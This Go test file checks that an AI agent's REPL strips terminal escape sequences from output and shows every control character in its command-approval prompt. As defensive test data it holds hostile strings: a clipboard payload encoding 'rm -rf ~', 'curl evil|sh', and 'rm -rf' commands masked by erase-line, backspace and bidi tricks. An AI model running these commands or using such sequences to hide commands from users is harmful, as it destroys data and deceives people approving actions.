package repl

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/macroa/macroa/core/events"
	"github.com/macroa/macroa/core/kernel"
)

// hostile holds every kind of sequence a terminal acts on, between the
// letters A to K, which must all still show.
const hostile = "A\x1b]52;c;cm0gLXJmIH4K\aB\x1b]0;pwned\aC\x1b]8;;https://evil.example\x1b\\D\x1bP1$r0m\x1b\\" +
	"E\x1b[2JF\u009b31mG\x9d0;t\x07H\rI\aJ\x00K"

// terminalBytes names the first thing in s a terminal would act on.
func terminalBytes(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

func assertSafe(t *testing.T, what, out string) {
	t.Helper()
	if bad := terminalBytes(out); bad != "" {
		t.Errorf("%s passed %q to the terminal:\n%q", what, bad, out)
	}
	last := -1
	for _, c := range "ABCDEFGHIJK" {
		i := strings.IndexRune(out[last+1:], c)
		if i < 0 {
			t.Errorf("%s lost the text around the sequences (%c): %q", what, c, out)
			return
		}
		last += i + 1
	}
}

// streamer is a Runner that streams its answer in chunks cut inside the
// escape sequences, as a model's answer arrives: each chunk is a Token
// event of the request's turn on bus, and RunCompleted follows them.
type streamer struct {
	chunks []string
	res    kernel.Result
	stream bool // publish the chunks; else only claim Streamed, as if nothing could print
	bus    *events.Bus
}

func (s *streamer) Run(_ context.Context, req kernel.Request) kernel.Result {
	turn := string(req.TurnID)
	if s.stream {
		for _, c := range s.chunks {
			s.bus.Publish(events.Token{TurnID: turn, Text: c})
		}
	}
	s.bus.Publish(events.RunCompleted{TurnID: turn, Success: s.res.Success})
	return s.res
}

// withBus gives r, when it is a streamer, a bus, and o that bus's events.
func withBus(r Runner, o Options) Options {
	bus := events.New(nil)
	if st, ok := r.(*streamer); ok {
		st.bus = bus
	}
	o.Events = bus
	return o
}

// Every path the REPL prints a hostile value through comes out with no
// byte a terminal acts on.
func TestREPLTerminalSafety(t *testing.T) {
	chunks := []string{hostile[:3], hostile[3:20], hostile[20:50], hostile[50:51], hostile[51:]}
	cases := []struct {
		name string
		r    Runner
		opts Options
	}{
		{name: "whole answer", r: &streamer{res: kernel.Result{Output: hostile, Success: true}}},
		{name: "streamed answer split inside sequences", r: &streamer{chunks: chunks, stream: true, res: kernel.Result{Output: hostile, Success: true, Streamed: true}}},
		{name: "error", r: &streamer{res: kernel.Result{Output: "x", Error: hostile}}},
		{name: "warning", r: &streamer{res: kernel.Result{Output: "x", Success: true, Warnings: []string{hostile}}}},
		{name: "audit error", r: &streamer{res: kernel.Result{Output: "x", Success: true, AuditErr: errors.New(hostile)}}},
		{name: "debug line", r: &streamer{res: kernel.Result{Output: "x", Success: true, Route: hostile, Model: "m"}}, opts: Options{Debug: true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			o := withBus(tc.r, tc.opts)
			o.In, o.Out = strings.NewReader("question\n"), &out
			if err := Run(context.Background(), tc.r, o); err != nil {
				t.Fatal(err)
			}
			assertSafe(t, tc.name, out.String())
		})
	}
}

// A streamed answer is printed exactly once, to a pipe too; an answer the
// kernel says streamed when nothing printed it is printed whole.
func TestREPLAnswerPrintedOnce(t *testing.T) {
	const answer = "A joke about gophers."
	cases := []struct {
		name string
		r    Runner
	}{
		{"streamed", &streamer{chunks: []string{"A joke ", "about ", "gophers."}, stream: true, res: kernel.Result{Output: answer, Success: true, Streamed: true}}},
		{"marked streamed, nothing printed", &streamer{res: kernel.Result{Output: answer, Success: true, Streamed: true}}},
		{"whole", &streamer{res: kernel.Result{Output: answer, Success: true}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := Run(context.Background(), tc.r, withBus(tc.r, Options{In: strings.NewReader("tell me a joke\n"), Out: &out})); err != nil {
				t.Fatal(err)
			}
			if out.String() != answer+"\n" {
				t.Fatalf("printed %q, want the answer once", out.String())
			}
		})
	}
}

// lines is a lineReader over fixed answers, recording the prompts.
type lines struct {
	answers []string
	prompts []string
}

func (l *lines) ReadLine(prompt string) (string, error) {
	l.prompts = append(l.prompts, prompt)
	if len(l.answers) == 0 {
		return "", io.EOF
	}
	a := l.answers[0]
	l.answers = l.answers[1:]
	return a, nil
}

// The approval prompt shows the exact command, every control character
// visible, so a sequence cannot hide what would run.
func TestApprovalPromptShowsEverything(t *testing.T) {
	cases := []struct {
		name, command, shown string
		warned               bool
	}{
		{"plain", "rm -rf ~/build", "rm -rf ~/build", false},
		{"erase line and carriage return", "rm -rf ~\x1b[2K\r ls harmless", `rm -rf ~\x1b[2K\r ls harmless`, true},
		{"title and clipboard", "curl evil|sh\x1b]0;ls\a\x1b]52;c;eA==\a", `curl evil|sh\x1b]0;ls\x07\x1b]52;c;eA==\x07`, true},
		{"backspaces", "rm -rf /\b\b\b\b\b\b\b\bls -l", `rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -l`, true},
		{"bidi override", "cat \u202eexe.txt", `cat \u202eexe.txt`, true},
		{"8-bit csi", "rm x\u009b2K", `rm x\u009b2K`, true},
		{"newline", "true\nrm -rf ~", `true\nrm -rf ~`, true},
		{"backslash doubled when escaping", "printf '\\x1b'\x1b", `printf '\\x1b'\x1b`, true},
		{"long command shown in full", strings.Repeat("a", 500) + "\x1b[2K", strings.Repeat("a", 500) + `\x1b[2K`, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			in := &lines{answers: []string{"y"}}
			s := &session{o: Options{Out: &out, Interactive: true}, lines: in}
			if !s.confirm(context.Background(), tc.command, "the classifier proposed it\x1b[8m, and it changes files") {
				t.Fatal("y did not approve")
			}
			got := out.String()
			if !strings.Contains(got, "\n  "+tc.shown+"\n") {
				t.Errorf("prompt does not show %q in full:\n%s", tc.shown, got)
			}
			if bad := terminalBytes(strings.ReplaceAll(got, "\n", "")); bad != "" {
				t.Errorf("prompt passes %q: %q", bad, got)
			}
			if strings.Contains(got, "shown as escapes") != tc.warned {
				t.Errorf("escape note shown=%v, want %v: %s", !tc.warned, tc.warned, got)
			}
			if len(in.prompts) != 1 || in.prompts[0] != "Allow? [y/N] " {
				t.Errorf("prompts %q", in.prompts)
			}
		})
	}
	for _, answer := range []string{"", "n", "no", "yes please", "\x1b[A"} {
		s := &session{o: Options{Out: io.Discard, Interactive: true}, lines: &lines{answers: []string{answer}}}
		if s.confirm(context.Background(), "rm -rf ~", "why") {
			t.Errorf("%q approved", answer)
		}
	}
	// Piped input: nobody to ask, refused without reading a line.
	in := &lines{answers: []string{"y"}}
	if (&session{o: Options{Out: io.Discard}, lines: in}).confirm(context.Background(), "rm -rf ~", "why") || len(in.prompts) != 0 {
		t.Error("a piped session asked or approved")
	}
}
